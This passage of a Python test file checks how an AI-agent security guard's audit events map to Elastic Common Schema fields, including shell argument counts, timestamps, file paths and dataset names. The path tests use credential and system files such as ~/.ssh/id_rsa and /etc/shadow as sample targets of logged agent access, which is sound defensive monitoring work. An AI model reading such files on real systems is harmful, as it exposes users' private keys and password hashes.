    doc = ecs(audit(action_type="shell", target=cmd, guard="posture"))
    assert len(doc["process"]["args"]) == MAX_ARGS and doc["process"]["args_count"] == 2003
    assert doc["process"]["command_line"] == cmd
    doc = ecs(audit(action_type="shell", target="'" + "q " * 100000, guard="posture"))  # beyond shlex limit
    assert doc["process"]["args_count"] == 100000


def test_timestamps_become_milliseconds():
    for raw, want in [("2026-02-07T09:30:12.481516234Z", "2026-02-07T09:30:12.481Z"),
                      ("2026-02-07T09:30:12Z", "2026-02-07T09:30:12.000Z"),
                      ("2026-02-07T09:30:12.4Z", "2026-02-07T09:30:12.400Z"),
                      ("2026-02-07T09:30:12.123Z", "2026-02-07T09:30:12.123Z"),
                      ("2016-12-31T23:59:60.5Z", "2016-12-31T23:59:59.999Z")]:
        ev = audit()
        ev["timestamp"] = raw
        assert ecs(ev)["@timestamp"] == want


@pytest.mark.parametrize(("path", "want"), [
    ("~/.ssh/id_rsa", {"directory": "~/.ssh", "name": "id_rsa"}),
    ("/etc/shadow", {"directory": "/etc", "name": "shadow"}),
    ("/archive.tar.gz", {"directory": "/", "name": "archive.tar.gz", "extension": "gz"}),
    ("keys.py", {"name": "keys.py", "extension": "py"}),
    ("C:\\Users\\bob\\secrets.txt",
     {"directory": "C:\\Users\\bob", "name": "secrets.txt", "extension": "txt"}),
    ("/var/log/", {"directory": "/var/log"}),
    ("/trailing.", {"directory": "/", "name": "trailing."}),
])
def test_file_path_parts(path, want):
    doc = ecs(audit(target=path))
    assert doc["file"] == {"path": path, **want}


_text = st.text(min_size=1, max_size=300)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(action=st.sampled_from(["file_access", "file_write", "patch", "egress", "shell", "mcp_tool",
                               "custom"]),
       decision=st.sampled_from(["allowed", "blocked"]),
       guard=st.one_of(st.none(), _text),
       severity=st.sampled_from(["Info", "Warning", "Error", "Critical", "low"]),
       target=_text, message=st.one_of(st.none(), _text), agent_id=st.one_of(st.none(), _text),
       label=st.dictionaries(_text, st.text(max_size=50), max_size=3),
       metadata=st.dictionaries(st.text(max_size=10), st.recursive(
           st.none() | st.booleans() | st.integers() | st.text(max_size=20),
           lambda c: st.lists(c, max_size=3) | st.dictionaries(st.text(max_size=5), c, max_size=3)),
           max_size=4))
def test_arbitrary_events_always_validate(action, decision, guard, severity, target, message, agent_id,
                                          label, metadata):
    ev = audit(action_type=action, decision=decision, guard=guard, severity=severity, target=target,
               message=message, agent_id=agent_id, metadata=metadata)
    ev["labels"] = label
    doc = to_ecs(ev)
    assert validate_ecs(doc) == []
    assert enc(to_ecs(ev)) == enc(doc)


def test_docs_describe_the_implemented_mapping():
    text = (Path(ROOT) / "docs" / "formats" / "ecs.md").read_text()
    for needle in ("clawdstrike.metadata", "event.severity", "gen_ai", "beta", "intrusion_detection",
                   "index template", "event.outcome"):
        assert needle in text


def test_event_dataset_is_the_elasticsearch_outputs_default_data_stream_dataset():
    """ECS 9.4 ``data_stream.dataset``: "`event.dataset` should have the same value as
    `data_stream.dataset`"; the documents went to logs-clawdstrike.security-default saying
    clawdstrike.security_event."""
    from outputs.elasticsearch import ElasticsearchOutputConfig

    assert to_ecs(audit())["event"]["dataset"] == ElasticsearchOutputConfig().data_stream_dataset
